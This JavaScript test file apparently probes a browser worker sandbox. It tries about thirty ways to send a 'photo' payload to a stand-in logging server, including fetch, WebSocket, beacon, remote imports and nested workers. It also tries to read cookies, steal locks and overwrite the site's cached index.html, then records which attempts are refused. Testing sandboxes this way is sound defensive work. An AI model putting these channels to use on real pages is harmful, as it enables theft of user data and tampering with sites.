// Before the engine, with all that a worker has at first: everything that could leave the browser, or be left in it.
// `@HERE@` is the site, `@THERE@` a server that notes what arrives, which the courier's policy lists as a service.
const outcomes = {};
globalThis.console.outcomes = outcomes;
const blob = (code) => URL.createObjectURL(new Blob([code], { type: "text/javascript" }));
const post = { method: "POST", body: "photo" };
const xhr = (method, url) =>
  new Promise((resolve, reject) => {
    const request = new XMLHttpRequest();
    request.open(method, url);
    request.onload = resolve;
    request.onerror = () => reject(new Error("no answer"));
    request.send("photo");
  });
const opened = (socket) =>
  new Promise((resolve, reject) => {
    socket.onopen = resolve;
    socket.onerror = () => reject(new Error("no connection"));
  });
const said = (worker) =>
  new Promise((resolve, reject) => {
    const port = worker.port ?? worker;
    port.onmessage = ({ data }) => (data === "sent" ? resolve(data) : reject(new Error(data)));
    worker.onerror = () => reject(new Error("no worker"));
  });
const NESTED = `fetch("@THERE@nested", { method: "POST", mode: "no-cors", body: "photo" }).then(() => postMessage("sent"), (error) => postMessage(String(error)))`;
const asked = (request) =>
  new Promise((resolve, reject) => {
    request.onsuccess = () => resolve(request.result);
    request.onerror = () => reject(request.error);
  });
const ATTEMPTS = {
  GET: () => fetch("@THERE@get"),
  POST: () => fetch("@THERE@post", post),
  PUT: () => fetch("@THERE@put", { ...post, method: "PUT" }),
  "POST without CORS": () => fetch("@THERE@no-cors", { ...post, mode: "no-cors" }),
  "POST that outlives the page": () => fetch("@THERE@keepalive", { ...post, mode: "no-cors", keepalive: true }),
  "POST to this site": () => fetch("@HERE@own", { ...post, mode: "no-cors" }),
  "GET of another path of this site": () => fetch("@HERE@../other-app/", { mode: "no-cors", credentials: "include" }),
  "GET of a file of this site": () => fetch("@HERE@config.json"),
  XMLHttpRequest: () => xhr("POST", "@THERE@xhr"),
  "XMLHttpRequest to this site": () => xhr("POST", "@HERE@xhr"),
  EventSource: () => opened(new EventSource("@THERE@events")),
  WebSocket: () => opened(new WebSocket("@THERE@socket".replace("http", "ws"))),
  WebTransport: () => new WebTransport("@THERE@transport".replace("http:", "https:")).ready,
  beacon: () => {
    if (!navigator.sendBeacon("@THERE@beacon", "photo")) throw new Error("not sent");
  },
  "import from elsewhere": () => import("@THERE@module.js"),
  "import from this site": () => import("@HERE@js/main.js"),
  "import of data": () => import("data:text/javascript,export default 1"),
  importScripts: () => importScripts("@THERE@script.js"),
  font: () => new FontFace("x", "url(@THERE@font)").load(),
  eval: () => (0, eval)("1"),
  Function: () => new Function("return 1")(),
  "nested worker": () => said(new Worker(blob(NESTED))),
  "nested worker of data": () => said(new Worker(`data:text/javascript,${encodeURIComponent(NESTED)}`)),
  "shared worker": () => said(new SharedWorker(blob(NESTED))),
  IndexedDB: () => asked(indexedDB.open("lookalike", 99)),
  files: () => navigator.storage.getDirectory(),
  lock: () => navigator.locks.request("lookalike.collection.1", { steal: true }, () => 1),
  "service worker": () => navigator.serviceWorker.register("@HERE@sw.js"),
  cookies: () => cookieStore.getAll(),
};
const late = () => new Promise((_, reject) => setTimeout(() => reject(new Error("nothing came of it")), 4000));
// Some browsers let it, where nobody else ever looks: the test does, from the page.
try {
  caches
    .open("burglar")
    .then((kept) => kept.put("@HERE@index.html", new Response("mine")))
    .catch(() => {});
} catch {
  /* not even that */
}
new BroadcastChannel("lookalike.collections").postMessage("from the engine");
globalThis.console.tried = Promise.all(
  Object.entries(ATTEMPTS).map(async ([name, attempt]) => {
    try {
      await Promise.race([attempt(), late()]);
      outcomes[name] = "WORKED";
    } catch (error) {
      outcomes[name] = `refused: ${error?.name}`;
    }
  }),
);
